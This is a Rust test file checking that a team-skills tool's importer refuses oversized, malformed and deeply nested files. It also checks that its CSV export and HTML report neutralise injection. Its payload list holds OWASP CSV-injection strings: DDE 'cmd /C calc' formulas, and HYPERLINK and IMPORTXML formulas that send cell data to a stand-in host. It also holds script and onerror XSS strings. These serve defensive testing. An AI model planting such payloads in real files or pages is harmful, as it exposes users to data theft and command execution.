//! Hostile and huge files: each gets a clear message naming the file (and
//! the line and column where there is one) or a correct import, in bounded
//! memory, and never a panic.

use skillgrid::analysis::{AnalysisOptions, analyze};
use skillgrid::io::{
    self, ExportOptions, Layout, MAX_FILE_BYTES, export_roster, import_roster, workspace_from_json,
};
use skillgrid::model::Member;
use skillgrid::{catalog, report};

const SAMPLE: &str = include_str!("../sample-teams/platform-team.csv");

fn error_text(bytes: &[u8], name: &str) -> String {
    let failure = import_roster(bytes, name, catalog::builtin()).expect_err("refused");
    failure
        .errors
        .iter()
        .map(|error| error.to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn a_file_over_the_limit_is_refused_before_it_is_read() {
    let folder = tempfile::tempdir().expect("temp dir");
    let path = folder.path().join("huge.csv");
    // Sparse: a gigabyte on paper, nothing on disk, nothing in memory.
    let file = std::fs::File::create(&path).expect("create");
    file.set_len(1_000_000_000 + MAX_FILE_BYTES / 2)
        .expect("grow");
    let failure = io::open_path(&path, catalog::builtin()).expect_err("refused");
    let message = failure.errors[0].to_string();
    assert!(message.contains("huge.csv"), "{message}");
    assert!(message.contains("1.3 GB"), "{message}");
    assert!(message.contains("up to 512 MB"), "{message}");
}

#[test]
fn a_ten_megabyte_line_gets_its_line_and_column() {
    let huge_name = "x".repeat(10 * 1024 * 1024);
    let csv = format!("Name,Role,Team\nAna,Tech Lead,Core\n{huge_name},Tech Lead,Core\n");
    let message = error_text(csv.as_bytes(), "long-line.csv");
    assert!(
        message.starts_with("long-line.csv:3:1:"),
        "{}",
        &message[..200.min(message.len())]
    );
    assert!(message.contains("10485760 characters"), "{message}");
    assert!(message.contains("up to 10000"), "{message}");
}

#[test]
fn binary_garbage_is_refused_with_a_message_not_a_panic() {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let garbage: Vec<u8> = (0..200_000)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect();
    let message = error_text(&garbage, "garbage.bin");
    assert!(message.starts_with("garbage.bin"), "{message}");
    assert!(workspace_from_json(&garbage, "garbage.json").is_err());
}

#[test]
fn excel_unicode_text_imports_like_the_utf8_file() {
    // Excel's "Unicode text": UTF-16 little-endian with a BOM, tab-separated.
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(SAMPLE.as_bytes());
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b'\t')
        .from_writer(Vec::new());
    for record in reader.records() {
        writer
            .write_record(&record.expect("sample row"))
            .expect("write");
    }
    let tabbed = String::from_utf8(writer.into_inner().expect("flush")).expect("utf-8");
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(tabbed.encode_utf16().flat_map(u16::to_le_bytes));
    let from_utf16 = import_roster(&utf16, "unicode.txt", catalog::builtin()).expect("imports");
    let from_utf8 =
        import_roster(SAMPLE.as_bytes(), "platform-team.csv", catalog::builtin()).expect("imports");
    assert!(from_utf16.value == from_utf8.value, "the same roster");
    assert_eq!(from_utf16.value.members.len(), 8);
}

#[test]
fn mixed_line_endings_import_every_row() {
    let lines: Vec<&str> = SAMPLE.lines().collect();
    let endings = ["\r\n", "\n", "\r"];
    let mixed: String = lines
        .iter()
        .enumerate()
        .map(|(index, line)| format!("{line}{}", endings[index % 3]))
        .collect();
    let imported =
        import_roster(mixed.as_bytes(), "mixed.csv", catalog::builtin()).expect("imports");
    let plain = import_roster(SAMPLE.as_bytes(), "plain.csv", catalog::builtin()).expect("imports");
    assert_eq!(imported.value.members, plain.value.members);
    assert_eq!(imported.value.levels, plain.value.levels);
}

#[test]
fn a_hundred_thousand_columns_are_refused_with_the_limit() {
    let mut header = String::from("Name,Role");
    for column in 0..100_000 {
        header.push_str(&format!(",Skill {column}"));
    }
    let csv = format!("{header}\nAna,Tech Lead\n");
    let message = error_text(csv.as_bytes(), "wide.csv");
    assert!(message.starts_with("wide.csv:1:"), "{message}");
    assert!(message.contains("100002 columns"), "{message}");
    assert!(message.contains("up to 10000"), "{message}");
}

#[test]
fn a_json_workspace_nested_a_million_deep_is_refused_without_overflowing_the_stack() {
    let depth = 1_000_000;
    let nested = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    let failure = workspace_from_json(nested.as_bytes(), "deep.json").expect_err("refused");
    let message = failure.errors[0].to_string();
    assert!(message.starts_with("deep.json:1:"), "{message}");

    let nested_in_a_field = format!(
        "{{\"format\":\"skillgrid-workspace\",\"schema_version\":1,\"skills\":{}{}}}",
        "[".repeat(depth),
        "]".repeat(depth)
    );
    assert!(workspace_from_json(nested_in_a_field.as_bytes(), "deep2.json").is_err());
}

#[test]
fn absurd_numbers_in_a_workspace_are_refused_by_name() {
    let mut workspace = import_roster(SAMPLE.as_bytes(), "t.csv", catalog::builtin())
        .expect("imports")
        .value;
    workspace.members[0].fte = 0.5;
    let json = String::from_utf8(io::workspace_to_json(&workspace)).expect("utf-8");
    let huge = json.replacen("\"fte\": 0.5", "\"fte\": 1e999", 1);
    let failure = workspace_from_json(huge.as_bytes(), "absurd.json").expect_err("refused");
    assert!(
        failure.errors[0].to_string().contains("absurd.json:"),
        "{}",
        failure.errors[0]
    );
    let negative = json.replacen("\"fte\": 0.5", "\"fte\": -40", 1);
    let failure = workspace_from_json(negative.as_bytes(), "absurd.json").expect_err("refused");
    assert!(
        failure.errors[0]
            .to_string()
            .contains("FTE -40 is outside 0-1"),
        "{}",
        failure.errors[0]
    );
}

/// What a spreadsheet would run: a cell starting with one of OWASP's
/// characters, except a plain negative number.
fn runs_as_formula(cell: &str) -> bool {
    let mut chars = cell.chars();
    match chars.next() {
        Some('=' | '+' | '@' | '\t' | '\r' | '\n') => true,
        Some('-') => !chars.all(|c| c.is_ascii_digit() || c == '.'),
        _ => false,
    }
}

/// OWASP's CSV injection examples and the characters that start them.
const PAYLOADS: [&str; 14] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "'=1+1",
    "''=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
    "-2+3+cmd|' /C calc'!A0",
];

#[test]
fn exported_csv_neutralises_every_owasp_payload_and_reads_back_exactly() {
    for payload in PAYLOADS {
        let mut workspace = import_roster(SAMPLE.as_bytes(), "t.csv", catalog::builtin())
            .expect("imports")
            .value;
        let mut member = Member::new(&format!("Mallory {}", workspace.members.len()));
        member.team = Some(payload.to_string());
        member.location = Some(payload.to_string());
        workspace.push_member(member);
        for layout in [Layout::Wide, Layout::Long] {
            let bytes = export_roster(
                &workspace,
                ExportOptions {
                    layout,
                    delimiter: b',',
                },
            );
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(bytes.as_slice());
            for record in reader.records() {
                for cell in record.expect("valid CSV").iter() {
                    assert!(!runs_as_formula(cell), "{payload:?} exported as {cell:?}");
                }
            }
            let back = import_roster(&bytes, "back.csv", catalog::builtin()).expect("reads back");
            let last = back.value.members.last().expect("member");
            assert_eq!(last.team.as_deref(), Some(payload), "{layout:?}");
        }
    }
}

#[test]
fn the_html_report_escapes_markup_so_no_script_runs() {
    let mut workspace = import_roster(SAMPLE.as_bytes(), "t.csv", catalog::builtin())
        .expect("imports")
        .value;
    let mut member = Member::new("<script>alert(1)</script>");
    member.team = Some("\"><img src=x onerror=alert(1)>".to_string());
    workspace.push_member(member);
    workspace.members[0].name = "=HYPERLINK(\"http://evil.example\")".to_string();
    let analysis = analyze(&workspace, &AnalysisOptions::default());
    let html = report::html_report(&analysis, &workspace, "<b>file</b>.csv");
    assert!(!html.contains("<script"), "no script element");
    assert!(!html.contains("<img"), "no injected element");
    assert!(!html.contains("onerror=alert(1)>"), "no injected attribute");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!html.contains("<b>file</b>"));
}

#[test]
fn a_large_import_reports_progress_and_stops_when_cancelled() {
    let workspace = skillgrid::synthetic::roster(catalog::builtin(), 5_000, 100, 3);
    let folder = tempfile::tempdir().expect("temp dir");
    let path = folder.path().join("big.csv");
    std::fs::write(&path, export_roster(&workspace, ExportOptions::default())).expect("write");

    let progress = io::Progress::default();
    let imported = io::open_path_tracked(&path, catalog::builtin(), &progress).expect("imports");
    assert_eq!(imported.value.members.len(), 5_000);
    assert_eq!(progress.fraction(), 1.0);

    let cancelled = io::Progress::default();
    cancelled.cancel();
    let failure =
        io::open_path_tracked(&path, catalog::builtin(), &cancelled).expect_err("stopped");
    let message = failure.errors[0].to_string();
    assert!(
        message.contains("cancelled: nothing was imported"),
        "{message}"
    );
}

#[test]
fn a_bench_depth_that_would_plan_hires_for_ever_is_refused() {
    let workspace = import_roster(SAMPLE.as_bytes(), "t.csv", catalog::builtin())
        .expect("imports")
        .value;
    let json = String::from_utf8(io::workspace_to_json(&workspace)).expect("utf-8");
    let absurd = json.replacen("\"bench_depth\": 2", "\"bench_depth\": 4000000000", 1);
    assert_ne!(absurd, json);
    let failure = workspace_from_json(absurd.as_bytes(), "deep-bench.json").expect_err("refused");
    let message = failure.errors[0].to_string();
    assert!(
        message.contains("bench depth 4000000000 is more than 100"),
        "{message}"
    );
}
